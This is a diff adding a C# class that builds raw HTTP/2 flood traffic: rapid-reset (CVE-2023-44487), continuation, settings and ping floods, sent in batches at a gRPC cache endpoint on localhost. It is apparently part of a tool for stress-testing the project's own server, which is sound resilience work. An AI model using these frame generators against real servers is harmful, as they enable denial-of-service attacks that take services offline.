@@ -1,0 +1,76 @@
+using System.Buffers.Binary;
+using System.Text;
+
+namespace Larder.Tuner.Peers;
+
+/// <summary>The HTTP/2 frames of a flood (RFC 9113, section 6): what opens its connection, and the batches that it sends until it is dropped.</summary>
+internal sealed class FloodFrames
+{
+    /// <summary>Frames of the flood's kind in one send: some kilobytes, so that sends cost the attacker little.</summary>
+    public const int PerBatch = 100;
+
+    private const byte Headers = 1;
+    private const byte ResetStream = 3;
+    private const byte Settings = 4;
+    private const byte Ping = 6;
+    private const byte Continuation = 9;
+    private const byte EndHeaders = 4;
+    private const int FrameHeaderBytes = 9;
+
+    private static readonly byte[] s_call = CallHeaders();
+    private readonly Func<int, byte[]> _frame;
+
+    private FloodFrames(byte[] opening, Func<int, byte[]> frame)
+    {
+        Opening = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, []), .. opening];
+        _frame = frame;
+    }
+
+    /// <summary>What a connection begins with.</summary>
+    public byte[] Opening { get; }
+
+    /// <summary>The frames of a kind: resets (a call and its reset at once, CVE-2023-44487), continuations, settings or pings.</summary>
+    /// <exception cref="ArgumentException">There is no such kind.</exception>
+    public static FloodFrames Of(string kind) => kind switch
+    {
+        "resets" => new([], stream => [.. Frame(Headers, EndHeaders, (stream * 2) + 1, s_call), .. Frame(ResetStream, 0, (stream * 2) + 1, [0, 0, 0, 8])]),
+        "continuations" => new(Frame(Headers, 0, 1, s_call), _ => Frame(Continuation, 0, 1, [])),
+        "settings" => new([], _ => Frame(Settings, 0, 0, [0, 4, 0, 1, 0, 0])),
+        "pings" => new([], _ => Frame(Ping, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])),
+        _ => throw new ArgumentException($"there is no flood of {kind}: known are resets, continuations, settings, pings"),
+    };
+
+    /// <summary>The batch of this number on a connection; streams must go up, so that those of calls are made anew for each.</summary>
+    public byte[] Batch(int number) => [.. Enumerable.Range(number * PerBatch, PerBatch).SelectMany(_frame)];
+
+    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
+    {
+        var frame = new byte[FrameHeaderBytes + payload.Length];
+        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
+        (frame[3], frame[4]) = (type, flags);
+        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
+        payload.CopyTo(frame.AsSpan(FrameHeaderBytes));
+        return frame;
+    }
+
+    /// <summary>A get's header block: literals without indexing, names and values under 127 bytes.</summary>
+    private static byte[] CallHeaders()
+    {
+        using var block = new MemoryStream();
+        (string, string)[] headers = [(":method", "POST"), (":scheme", "http"), (":path", "/cache_client.Scs/Get"), (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"), ("cache", "cache")];
+        foreach (var (name, value) in headers)
+        {
+            block.WriteByte(0);
+            Write(block, name);
+            Write(block, value);
+        }
+
+        return block.ToArray();
+    }
+
+    private static void Write(MemoryStream block, string text)
+    {
+        block.WriteByte((byte)text.Length);
+        block.Write(Encoding.ASCII.GetBytes(text));
+    }
+}
